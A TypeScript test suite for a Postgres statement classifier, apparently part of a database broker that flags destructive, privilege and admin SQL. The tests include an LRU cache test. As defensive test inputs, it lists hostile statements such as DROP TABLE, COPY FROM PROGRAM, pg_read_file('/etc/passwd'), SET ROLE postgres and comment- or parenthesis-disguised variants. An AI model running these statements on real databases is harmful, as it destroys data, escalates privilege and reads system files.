    // Within the bound the DROP is seen.
    let shallow = 'DROP TABLE t';
    for (let i = 0; i < 2; i++) shallow = `DO $x${i}$ BEGIN EXECUTE ${`'${shallow.replace(/'/g, "''")}'`}; END $x${i}$`;
    expect(classifyPostgres(shallow).statements[0]!.kinds).toEqual(['read', 'destructive']);
  });
});

describe('classifyPostgres: why a statement is unknown (or admin where its text does not say)', () => {
  const rows: [string, RegExp][] = [
    ["SELECT set_config($1, 'x', false)", /setting name given to set_config\(\) is not a literal/],
    ["SELECT set_config(name, 'x', false) FROM pg_settings WHERE name LIKE 'w%'", /setting name given to set_config\(\) is not a literal/],
    ["DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$", /dynamic SQL: PL\/pgSQL EXECUTEs a string that is not a literal/],
    ["SELECT query_to_xml(q, true, false, '') FROM queries", /dynamic SQL: the query given to query_to_xml\(\) is not a literal/],
    ["SELECT cron.schedule('* * * * *', 'DELETE FROM t')", /schedule\(\) builds or schedules SQL the broker cannot see/],
    ["SELECT table_to_xml($1, true, false, '')", /table given to table_to_xml\(\) is not a literal name/],
    ['EXECUTE p(1)', /EXECUTE p runs a prepared statement/],
    ['CALL p()', /CALL runs a procedure/],
    ['DO LANGUAGE plperl $$ 1 $$', /code in language plperl is not followed/],
    ['DO $$ BEGIN undeclared := 1; END $$', /PL\/pgSQL code does not compile/],
    ['SET standard_conforming_strings = off', /server would read quotes or backslashes where the broker’s parser does not/],
    ["DO $$ BEGIN EXECUTE 'PREPARE q AS SELECT 1'; END $$", /PREPAREs a statement from inside other SQL/],
    ["DO $$ BEGIN EXECUTE 'selec 1'; END $$", /SQL inside the statement cannot be read \(syntax error/],
    ['SELECT subconninfo FROM pg_subscription', /may read pg_subscription\.subconninfo, which can hold the publisher’s password/],
  ];
  it.each(rows)('%s', (sql, why) => {
    const [st] = classifyPostgres(sql).statements;
    expect(st!.reason).toMatch(why);
  });

  it('a statement whose text says it all carries no reason', () => {
    for (const sql of ['SELECT 1', 'DELETE FROM t', 'DISCARD ALL', "SELECT set_config(name, 'x', false) FROM pg_settings WHERE name = 'work_mem'"]) {
      expect(classifyPostgres(sql).statements[0]!.reason).toBeUndefined();
    }
  });
});

describe('classifyPostgres: what a statement does to the session’s prepared statements', () => {
  it.each([
    ['PREPARE q(int) AS DELETE FROM t WHERE id = $1', { op: 'prepare', name: 'q' }],
    ['PREPARE "Q" AS SELECT 1', { op: 'prepare', name: 'Q' }],
    ['EXECUTE q(1)', { op: 'execute', name: 'q', args: [] }],
    ["EXECUTE q(nextval('s'), pg_read_file('x'))", { op: 'execute', name: 'q', args: ['write', 'admin'] }],
    ['DEALLOCATE q', { op: 'forget', name: 'q' }],
    ['DEALLOCATE PREPARE ALL', { op: 'forget', name: null }],
    ['DISCARD ALL', { op: 'forget', name: null }],
  ] as const)('%s', (sql, op) => {
    expect(classifyPostgres(sql).statements[0]!.prepared).toEqual(op);
  });

  it('nothing else is marked, not even an EXECUTE inside another statement', () => {
    for (const sql of ['DISCARD PLANS', 'EXPLAIN ANALYZE EXECUTE q', 'CREATE TABLE t2 AS EXECUTE q', 'SELECT 1']) {
      expect(classifyPostgres(sql).statements[0]!.prepared).toBeUndefined();
    }
  });
});

describe('classifyPostgres: several statements', () => {
  const rows: [string, Kind[][], string[]][] = [
    ['SELECT 1; DROP TABLE t', [['read'], ['destructive']], ['SELECT 1', 'DROP TABLE t']],
    ["SELECT 'a;b'; DELETE FROM t", [['read'], ['destructive']], ["SELECT 'a;b'", 'DELETE FROM t']],
    ['BEGIN; UPDATE t SET a = 1 WHERE id = 1; COMMIT;', [['read'], ['write'], ['read']], ['BEGIN', 'UPDATE t SET a = 1 WHERE id = 1', 'COMMIT']],
    ['SELECT $$;$$; SET ROLE x', [['read'], ['privilege']], ['SELECT $$;$$', 'SET ROLE x']],
    ['/* ; */ SELECT 1 -- ;\n; GRANT ALL ON t TO x', [['read'], ['privilege']], ['SELECT 1 -- ;', 'GRANT ALL ON t TO x']],
    ["SELECT 'é'; DROP TABLE t", [['read'], ['destructive']], ["SELECT 'é'", 'DROP TABLE t']],
  ];
  it.each(rows)('%s', (sql, kinds, texts) => {
    const c = classifyPostgres(sql);
    expect(c.error).toBeUndefined();
    expect(c.statements.map((s) => sorted(s.kinds))).toEqual(kinds);
    expect(c.statements.map((s) => s.sql)).toEqual(texts);
  });
});

describe('literal-normalised cache', () => {
  it('keys ignore literal values, whitespace and keyword case', () => {
    const a = pgLiteralKey('SELECT abalance FROM pgbench_accounts WHERE aid = 12345;');
    const b = pgLiteralKey('select  abalance\nFROM pgbench_accounts WHERE aid = 7 ;');
    expect(a?.key).toBe(b?.key);
    expect(a?.sql).toBe('SELECT abalance FROM pgbench_accounts WHERE aid = 12345');
    expect(pgLiteralKey("SELECT * FROM t WHERE s = 'x'")?.key).toBe(pgLiteralKey("SELECT * FROM t WHERE s = 'it''s'")?.key);
  });

  it('keys keep everything that is not a literal value', () => {
    const k = (s: string) => pgLiteralKey(s)?.key;
    expect(k('SELECT a FROM t WHERE id = 1')).not.toBe(k('SELECT a FROM u WHERE id = 1'));
    expect(k('SELECT a FROM t WHERE id = 1')).not.toBe(k('SELECT a FROM t WHERE id > 1'));
    expect(k('SELECT a FROM t WHERE id = 1')).not.toBe(k("SELECT a FROM t WHERE id = '1'"));
    expect(k('SELECT a FROM t WHERE id = 1')).not.toBe(k('SELECT a FROM t WHERE id = 1.5'));
    expect(k('SELECT "A" FROM t')).not.toBe(k('SELECT a FROM t'));
    expect(k('SELECT a < = b')).not.toBe(k('SELECT a <= b'));
  });

  it.each([
    'SELECT 1 -- comment',
    'SELECT /* c */ 1',
    'SELECT $1',
    'SELECT $$x$$',
    "SELECT E'x'",
    "SELECT U&'x'",
    "SELECT B'01'",
    "SELECT 'a\\b'",
    "SELECT 'é'",
    'SELECT 1; SELECT 2',
    "SELECT 'a' 'b'",
    "SELECT 'a'\n'b'",
    'SELECT 1e',
    'SELECT .5',
    'SELECT 1_000',
    'SELECT 0x1F',
    'SELECT 123abc',
    'SELECT a..b',
    'SELECT a::int[1:2]',
    'SELECT 1 =-1',
    'SELECT "a""b"',
    'SELECT ""',
    'SELECT 1\u0000',
    ';',
  ])('gives up on anything outside its subset: %s', (sql) => {
    expect(pgLiteralKey(sql)).toBeNull();
  });

  it('equal keys mean equal parse trees but for literal values (property)', () => {
    type Frag = { w: string } | { int: true } | { float: true } | { str: true };
    const ints = ['0', '1', '42', '007', '99999999999'];
    const floats = ['3.5', '1e5', '2E-3', '10.25e+2', '0.0'];
    const strings = ["''", "'a'", "'it''s'", "'--'", "'/*'", "';'", `'"'`, "' x '", "'$1'"];
    const tricky = [
      "'\\'",
      '"A"',
      '"a b"',
      '.',
      '..',
      '::',
      ':',
      '[',
      ']',
      ';',
      '--',
      '/*',
      '*/',
      '$',
      '$1',
      '$$',
      '&',
      '@',
      '#',
      '^',
      '~',
      '|',
      '`',
      '?',
      '{',
      '}',
      "E'",
      "'",
      'e',
      'E',
      'U',
      'b',
      'x',
      '=',
      '-',
      '+',
      '*',
      '/',
    ];
    const w = (...xs: string[]): Frag[] => xs.map((x) => ({ w: x }));
    const { expr, cond } = fc.letrec<{ expr: Frag[]; cond: Frag[] }>((tie) => ({
      expr: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.constantFrom(
          w('a'),
          w('T', '.', 'b'),
          w('"Col"'),
          [{ int: true } as Frag],
          [{ float: true } as Frag],
          [{ str: true } as Frag],
          w('true'),
          w('null'),
        ),
        fc.tuple(tie('expr'), fc.constantFrom('+', '-', '*', '/', '%', '||'), tie('expr')).map(([l, op, r]) => [...l, ...w(op), ...r]),
        tie('expr').map((e) => [...w('('), ...e, ...w(')')]),
        fc.tuple(fc.constantFrom('lower', 'abs', 'count'), tie('expr')).map(([f, e]) => [...w(f, '('), ...e, ...w(')')]),
        fc.tuple(tie('expr'), fc.constantFrom('int', 'text', 'numeric')).map(([e, t]) => [...e, ...w('::', t)]),
        tie('expr').map((e) => [...w('-'), ...e]),
      ),
      cond: fc.oneof(
        { depthSize: 'small', withCrossShrink: true },
        fc.tuple(tie('expr'), fc.constantFrom('=', '<', '>', '<=', '>=', '<>', '!='), tie('expr')).map(([l, op, r]) => [...l, ...w(op), ...r]),
        fc.tuple(tie('cond'), fc.constantFrom('and', 'OR'), tie('cond')).map(([l, op, r]) => [...l, ...w(op), ...r]),
        tie('cond').map((c) => [...w('NOT', '('), ...c, ...w(')')]),
        tie('expr').map((e) => [...e, ...w('IS', 'NOT', 'NULL')]),
        fc
          .tuple(tie('expr'), fc.array(tie('expr'), { minLength: 1, maxLength: 3 }))
          .map(([l, xs]) => [...l, ...w('IN', '('), ...xs.flatMap((x, i) => (i ? [...w(','), ...x] : x)), ...w(')')]),
      ),
    }));
    const statement = fc
      .tuple(
        fc.array(expr, { minLength: 1, maxLength: 3 }),
        fc.option(cond),
        fc.boolean(),
        fc.boolean(),
        fc.option(fc.tuple(fc.nat(40), fc.constantFrom(...tricky)), { freq: 2 }),
      )
      .map(([cols, where, limit, semi, inject]) => {
        const frags: Frag[] = [...w('SELECT'), ...cols.flatMap((c, i) => (i ? [...w(','), ...c] : c)), ...w('FROM', 't')];
        if (where) frags.push(...w('WHERE'), ...where);
        if (limit) frags.push(...w('LIMIT'), { int: true });
        if (semi) frags.push(...w(';'));
        if (inject) frags.splice(inject[0] % (frags.length + 1), 0, { w: inject[1] });
        return frags;
      });
    /** The parse tree with positions dropped and every constant's value and type forgotten. */
    const tree = (sql: string): string | null => {
      try {
        return JSON.stringify(parseSync(sql), (k, v: unknown) => (/location|_start|_end|stmt_len/.test(k) ? undefined : k === 'A_Const' ? 'const' : v));
      } catch {
        return null;
      }
    };
    const render = (frags: Frag[], pick: number[], seps: string[], upper: boolean) =>
      frags
        .map((f, i) => {
          const p = pick[i % pick.length]!;
          const text = 'int' in f ? ints[p % ints.length]! : 'float' in f ? floats[p % floats.length]! : 'str' in f ? strings[p % strings.length]! : f.w;
          return (upper && 'w' in f && /^\w+$/.test(f.w) ? text.toUpperCase() : text) + seps[i % seps.length]!;
        })
        .join('');
    let compared = 0;
    fc.assert(
      fc.property(
        statement,
        fc.array(fc.nat(20), { minLength: 1, maxLength: 12 }),
        fc.array(fc.nat(20), { minLength: 1, maxLength: 12 }),
        fc.array(fc.constantFrom(' ', ' ', ' ', '', '\n', '\t'), { minLength: 1, maxLength: 5 }),
        fc.array(fc.constantFrom(' ', ' ', ' ', '', '\n', '\t'), { minLength: 1, maxLength: 5 }),
        fc.boolean(),
        (frags, pickA, pickB, sepA, sepB, upper) => {
          const a = render(frags, pickA, sepA, false);
          const b = render(frags, pickB, sepB, upper);
          const ka = pgLiteralKey(a);
          const kb = pgLiteralKey(b);
          if (!ka || !kb || ka.key !== kb.key) return;
          const [ta, tb] = [tree(a), tree(b)];
          if (ta === null || tb === null) return; // one does not parse: it is refused, never cached
          compared++;
          expect(tb, `${a}  ≠  ${b}`).toBe(ta);
        },
      ),
      { numRuns: 2000 },
    );
    expect(compared).toBeGreaterThan(200); // the property was exercised, not vacuously true
  });

  it('reports the statement text exactly as a parse does', () => {
    for (const sql of ['SELECT 1', '  select a from t where b = 1 ;  ', 'SELECT 1;', '\n\tSELECT 2\n;\n', "INSERT INTO t VALUES (1, 'a;b');"]) {
      expect(pgLiteralKey(sql)?.sql).toBe(classifyPostgres(sql).statements[0]!.sql);
    }
  });

  it('answers a literal variant of a plain SELECT without parsing, with that text', () => {
    classify('postgres', 'SELECT abalance FROM pgbench_accounts WHERE aid = 1;');
    const shaped = classifyPostgresShaped('SELECT abalance FROM pgbench_accounts WHERE aid = 98765;');
    expect(shaped.cacheByText).toBe(false); // answered by shape, not parsed
    expect(shaped.classification).toEqual({
      statements: [{ sql: 'SELECT abalance FROM pgbench_accounts WHERE aid = 98765', kinds: ['read'], tables: ['pgbench_accounts'], operators: ['='] }],
    });
    // Seen a second time, the same answer is kept by text.
    const again = classify('postgres', 'SELECT abalance FROM pgbench_accounts WHERE aid = 98765;');
    expect(again).toBe(shaped.classification);
    expect(classify('postgres', 'SELECT abalance FROM pgbench_accounts WHERE aid = 98765;')).toBe(again);
  });

  it.each([
    ["SELECT set_config('search_path', 'x', false)", "SELECT set_config('role', 'x', false)"], // a function outside the safe list
    ["SELECT query_to_xml('SELECT 1', true, false, '')", "SELECT query_to_xml('DELETE FROM t RETURNING 1', true, false, '')"],
    ["SELECT table_to_xml('a', true, false, '')", "SELECT table_to_xml('secrets', true, false, '')"],
    ['DELETE FROM t WHERE 1 = 2', 'DELETE FROM t WHERE 1 = 1'], // not a SELECT
    ["SET standard_conforming_strings = 'on'", "SET standard_conforming_strings = 'off'"],
    ['SELECT nextval(1)', 'SELECT nextval(2)'], // not only a read
  ])('does not reuse a classification that depends on a literal: %s vs %s', (first, second) => {
    expect(pgLiteralKey(first)?.key).toBe(pgLiteralKey(second)?.key);
    classify('postgres', first);
    const shaped = classifyPostgresShaped(second);
    expect(shaped.cacheByText).toBe(true); // parsed
    expect(shaped.classification).toEqual(classifyPostgres(second));
  });

  // Statements whose classification does depend on a literal: the same key, different answers.
  const templates: ((s: string, i: number) => string)[] = [
    (_s, i) => `SELECT abalance FROM pgbench_accounts WHERE aid = ${i};`,
    (s, i) => `SELECT * FROM t WHERE name = ${s} AND n > ${i}`,
    (s) => `SELECT set_config(${s}, 'x', false)`,
    (s) => `SELECT table_to_xml(${s}, true, false, '')`,
    (s) => `SELECT query_to_xml(${s}, true, false, '')`,
    (s) => `SELECT dblink_exec('x', ${s})`,
    (_s, i) => `DELETE FROM t WHERE ${i} = ${i % 3}`,
    (s) => `UPDATE t SET a = 1 WHERE ${s} = 'a'`,
    (s) => `SELECT count(*) FROM t WHERE a = ${s}`,
    (_s, i) => `SELECT * FROM t LIMIT ${i}`,
    (s) => `SET search_path = ${s}`,
    (s) => `SET standard_conforming_strings = ${s}`,
    (s) => `SELECT lower(${s})`,
    (s) => `EXPLAIN (ANALYZE ${s}) DELETE FROM t`,
    (s) => `SELECT ${s}::regclass`,
    (s, i) => `INSERT INTO pgbench_history (tid, aid, note) VALUES (${i % 10}, ${i}, ${s});`,
    (s, i) => `INSERT INTO log VALUES (${i}, ${s}) ON CONFLICT (id) DO UPDATE SET v = ${s} WHERE log.v <> ${s}`,
    (s) => `INSERT INTO t SELECT set_config(${s}, 'x', false)`,
    (s) => `INSERT INTO t VALUES (query_to_xml(${s}, true, false, ''))`,
  ];
  const strings = [
    'a',
    'role',
    'search_path',
    'session_authorization',
    'secrets',
    'public.secrets',
    'SELECT 1',
    'DELETE FROM t RETURNING 1',
    'DROP TABLE t',
    'on',
    'off',
    'true',
    'false',
    "it's",
  ];
  const lit = (s: string) => `'${s.replace(/'/g, "''")}'`;

  it('never answers differently from a fresh parse (property)', () => {
    fc.assert(
      fc.property(
        fc.array(
          fc.tuple(fc.nat(templates.length - 1), fc.oneof(fc.constantFrom(...strings), fc.string({ maxLength: 8 })), fc.integer({ min: -3, max: 200000 })),
          { minLength: 1, maxLength: 30 },
        ),
        (calls) => {
          for (const [t, s, i] of calls) {
            const sql = templates[t]!(lit(s), i);
            expect(classify('postgres', sql)).toEqual(classifyPostgres(sql));
          }
        },
      ),
      { numRuns: 300 },
    );
  });
});

describe('no disguise makes a dangerous statement less severe (property)', () => {
  // «…» marks where parentheses may be added. Quoted parts contain no spaces (tokens split at spaces).
  const pool = [
    'DROP TABLE t',
    'DROP TABLE IF EXISTS s.t CASCADE',
    'TRUNCATE t',
    'DELETE FROM t',
    'DELETE FROM t WHERE «1 = 1»',
    'DELETE FROM t WHERE «true» OR «id = 5»',
    'DELETE FROM t WHERE «x = x»',
    'UPDATE t SET a = «1» WHERE «NOT false»',
    'UPDATE t SET a = 1',
    'WITH d AS (DELETE FROM t RETURNING *) SELECT * FROM d',
    'EXPLAIN ANALYZE DELETE FROM t',
    'PREPARE p AS DELETE FROM t',
    'ALTER TABLE t DROP COLUMN a',
    'MERGE INTO t USING s ON «t.id = s.id» WHEN MATCHED THEN DELETE',
    'CREATE RULE r AS ON INSERT TO t DO INSTEAD DELETE FROM u',
    'CREATE FUNCTION f() RETURNS void LANGUAGE plpgsql AS $$ BEGIN DELETE FROM t; END $$',
    "DO $$ BEGIN EXECUTE 'DROP TABLE t'; END $$",
    'COPY «(DELETE FROM t RETURNING *)» TO STDOUT',
    'GRANT ALL ON t TO bob',
    'REVOKE SELECT ON t FROM bob',
    'CREATE ROLE eve SUPERUSER',
    'SET ROLE postgres',
    'RESET ROLE',
    'SET SESSION AUTHORIZATION postgres',
    'ALTER TABLE t OWNER TO bob',
    "«SELECT «set_config('role', 'postgres', false)»»",
    "ALTER SYSTEM SET work_mem = '1GB'",
    "COPY t TO '/tmp/x'",
    "COPY t FROM PROGRAM 'id'",
    "«SELECT «pg_read_file(«'/etc/passwd'»)»»",
    "SELECT * FROM pg_ls_dir('.')",
    "«SELECT lo_import('/etc/passwd')»",
    'CREATE EXTENSION dblink',
    "LOAD 'auto_explain'",
    'CREATE DATABASE d',
    'SELECT pg_terminate_backend(«42»)',
    'CALL p()',
    'EXECUTE p',
    "DO $$ BEGIN EXECUTE format('DROP TABLE %I', 't'); END $$",
    'SET standard_conforming_strings = off',
    'selec 1',
  ];
  const harmless = [
    'SELECT 1',
    'SHOW search_path',
    'BEGIN',
    'COMMIT',
    "SELECT 'x; DROP TABLE y'",
    'SELECT * FROM users WHERE id = 1',
    '/* just a comment */ SELECT 2',
    'SET search_path = app',
  ];
  const separators = [' ', '  ', '\n', '\t', ' /* x */ ', ' /* a /* b */ c */ ', ' -- c\n', '\n-- DROP TABLE zzz\n', '/**/'];

  /** Apply the «…» markers: each becomes 0–2 pairs of parentheses, by `parens` in turn. */
  function parenthesise(template: string, parens: number[]): string {
    const stack: string[] = [''];
    let p = 0;
    for (const ch of template) {
      if (ch === '«') stack.push('');
      else if (ch === '»') {
        const inner = stack.pop()!;
        const n = parens.length ? parens[p++ % parens.length]! : 0;
        stack[stack.length - 1] += '('.repeat(n) + inner + ')'.repeat(n);
      } else stack[stack.length - 1] += ch;
    }
    return stack[0]!;
  }

  function recase(token: string, upper: boolean[], at: number): string {
    if (/['"$]/.test(token)) return token; // quoted text and dollar tags keep their case
    return [...token].map((c, i) => (upper[(at + i) % upper.length] ? c.toUpperCase() : c.toLowerCase())).join('');
  }

  it('comments, whitespace, case, parentheses and harmless company', () => {
    for (const s of pool) expect(severity(worst(s.replace(/[«»]/g, '')))).toBeGreaterThanOrEqual(severity('destructive'));
    fc.assert(
      fc.property(
        fc.record({
          which: fc.nat(pool.length - 1),
          seps: fc.array(fc.constantFrom(...separators), { minLength: 1, maxLength: 12 }),
          upper: fc.array(fc.boolean(), { minLength: 1, maxLength: 16 }),
          parens: fc.array(fc.nat(2), { maxLength: 6 }),
          before: fc.array(fc.constantFrom(...harmless), { maxLength: 2 }),
          after: fc.array(fc.constantFrom(...harmless), { maxLength: 2 }),
          trailing: fc.constantFrom('', ';', ' ;  ', '; -- bye', ';\n/* end */'),
        }),
        ({ which, seps, upper, parens, before, after, trailing }) => {
          const template = pool[which]!;
          const alone = worst(template.replace(/[«»]/g, ''));
          const tokens = parenthesise(template, parens).split(' ');
          let pos = 0;
          const body = tokens
            .map((t, i) => {
              const out = recase(t, upper, pos) + (i < tokens.length - 1 ? seps[i % seps.length]! : '');
              pos += t.length;
              return out;
            })
            .join('');
          const sql = [...before, body, ...after].join('; ') + trailing;
          expect(severity(worst(sql)), sql).toBeGreaterThanOrEqual(severity(alone));
        },
      ),
      { numRuns: 600 },
    );
  });
});

describe('Lru', () => {
  it('evicts the least recently used entry, a hit renews an entry', () => {
    const l = new Lru<string, number>(2);
    l.set('a', 1);
    l.set('b', 2);
    expect(l.get('a')).toBe(1); // a is now the most recent
    l.set('c', 3); // evicts b
    expect(l.get('b')).toBeUndefined();
    expect(l.get('a')).toBe(1);
    expect(l.get('c')).toBe(3);
    l.set('a', 10); // update in place
    l.set('d', 4); // evicts c
    expect([l.get('a'), l.get('c'), l.get('d'), l.size]).toEqual([10, undefined, 4, 2]);
  });
});
